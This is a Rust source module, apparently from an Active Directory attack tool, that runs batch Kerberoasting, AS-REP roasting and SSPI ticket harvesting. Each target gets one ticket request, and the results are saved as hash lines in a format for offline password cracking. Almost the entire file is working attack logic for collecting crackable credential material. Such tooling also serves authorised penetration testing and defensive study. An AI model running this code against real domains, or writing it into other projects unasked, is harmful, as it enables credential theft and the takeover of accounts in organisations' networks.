//! Batch roasting: one independent ticket request per target, with every
//! failure pinned to its target instead of stopping the run.

use super::engine::{KdcEngine, KdcError, KdcSession, TicketHarvester};
use super::etype::EncryptionTypeSet;
use super::hash::{CrackFormat, RoastTicket};
use super::spec::TargetDescriptor;
use super::workers::run_chunked;
use crate::context::RunContext;
use std::fmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    ServiceTicketRoast,
    PreAuthlessRoast,
    LocalHarvestRoast,
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            AttackKind::ServiceTicketRoast => "Kerberoast",
            AttackKind::PreAuthlessRoast => "ASREPRoast",
            AttackKind::LocalHarvestRoast => "Kerberoast (SSPI)",
        };
        f.write_str(name)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackResult {
    Success {
        target: TargetDescriptor,
        hash_line: String,
    },
    Failure {
        target: TargetDescriptor,
        reason: String,
    },
}

impl AttackResult {
    pub fn target(&self) -> &TargetDescriptor {
        match self {
            AttackResult::Success { target, .. } | AttackResult::Failure { target, .. } => target,
        }
    }

    pub fn is_success(&self) -> bool {
        matches!(self, AttackResult::Success { .. })
    }
}

/// The three ways of getting roastable material for one target. The batch
/// loop only ever calls [`Roaster::attempt`].
pub enum Roaster<'a> {
    ServiceTicket {
        kdc: &'a dyn KdcEngine,
        session: &'a KdcSession,
    },
    PreAuthless {
        kdc: &'a dyn KdcEngine,
    },
    LocalHarvest {
        harvester: &'a dyn TicketHarvester,
    },
}

impl<'a> Roaster<'a> {
    pub fn kind(&self) -> AttackKind {
        match self {
            Roaster::ServiceTicket { .. } => AttackKind::ServiceTicketRoast,
            Roaster::PreAuthless { .. } => AttackKind::PreAuthlessRoast,
            Roaster::LocalHarvest { .. } => AttackKind::LocalHarvestRoast,
        }
    }

    pub fn attempt(
        &self,
        target: &TargetDescriptor,
        etypes: &EncryptionTypeSet,
        format: CrackFormat,
    ) -> AttackResult {
        match self.fetch(target, etypes) {
            Ok(ticket) => AttackResult::Success {
                target: target.clone(),
                hash_line: ticket.to_crack_string(format),
            },
            Err(e) => {
                log::debug!("{} failed for {}: {}", self.kind(), target, e);
                AttackResult::Failure {
                    target: target.clone(),
                    reason: e.to_string(),
                }
            }
        }
    }

    fn fetch(
        &self,
        target: &TargetDescriptor,
        etypes: &EncryptionTypeSet,
    ) -> Result<RoastTicket, KdcError> {
        let ticket = match self {
            Roaster::ServiceTicket { kdc, session } => {
                kdc.request_service_ticket(session, target, etypes)?
            }
            Roaster::PreAuthless { kdc } => kdc.request_as_rep(target, etypes)?,
            Roaster::LocalHarvest { harvester } => {
                let raw = harvester.service_ticket(target)?;
                RoastTicket::from_ticket_der(target, &raw)?
            }
        };

        if !etypes.contains_id(ticket.etype) {
            return Err(KdcError::EtypeRejected(ticket.etype));
        }
        Ok(ticket)
    }
}

#[derive(Debug, Clone, Copy, Default)]
pub struct BatchOptions {
    /// Set when the targets came from directory enumeration, where the
    /// `krbtgt` accounts always show up with an SPN.
    pub skip_ticket_granting_accounts: bool,
    pub crack_format: CrackFormat,
}

#[derive(Debug, Default)]
pub struct Batch {
    pub results: Vec<AttackResult>,
    pub skipped: Vec<TargetDescriptor>,
    /// Targets never tried because the run was interrupted.
    pub abandoned: Vec<TargetDescriptor>,
}

impl Batch {
    pub fn successes(&self) -> impl Iterator<Item = &str> {
        self.results.iter().filter_map(|result| match result {
            AttackResult::Success { hash_line, .. } => Some(hash_line.as_str()),
            AttackResult::Failure { .. } => None,
        })
    }

    pub fn failures(&self) -> impl Iterator<Item = (&TargetDescriptor, &str)> {
        self.results.iter().filter_map(|result| match result {
            AttackResult::Failure { target, reason } => Some((target, reason.as_str())),
            AttackResult::Success { .. } => None,
        })
    }

    pub fn was_cancelled(&self) -> bool {
        !self.abandoned.is_empty()
    }
}

/// Makes exactly one attempt per target and returns the results in target
/// order.
pub fn run_batch(
    targets: &[TargetDescriptor],
    roaster: &Roaster<'_>,
    etypes: &EncryptionTypeSet,
    options: BatchOptions,
    ctx: &RunContext,
) -> Batch {
    let mut batch = Batch::default();

    let skip_tgs_accounts = options.skip_ticket_granting_accounts
        && roaster.kind() != AttackKind::PreAuthlessRoast;
    let attempted: Vec<TargetDescriptor> = targets
        .iter()
        .filter(|target| {
            if skip_tgs_accounts && target.is_ticket_granting_account() {
                log::debug!("Skipping {}", target);
                batch.skipped.push((*target).clone());
                return false;
            }
            true
        })
        .cloned()
        .collect();

    log::debug!(
        "{} against {} target(s), etypes {}",
        roaster.kind(),
        attempted.len(),
        etypes
    );

    let slots = run_chunked(&attempted, ctx.threads, ctx.cancel_flag(), |_, target| {
        roaster.attempt(target, etypes, options.crack_format)
    });

    for (target, slot) in attempted.into_iter().zip(slots) {
        match slot {
            Some(result) => batch.results.push(result),
            None => batch.abandoned.push(target),
        }
    }

    if batch.was_cancelled() {
        log::warn!(
            "{} interrupted, {} target(s) not tried",
            roaster.kind(),
            batch.abandoned.len()
        );
    }
    log::info!("{} complete", roaster.kind());

    batch
}
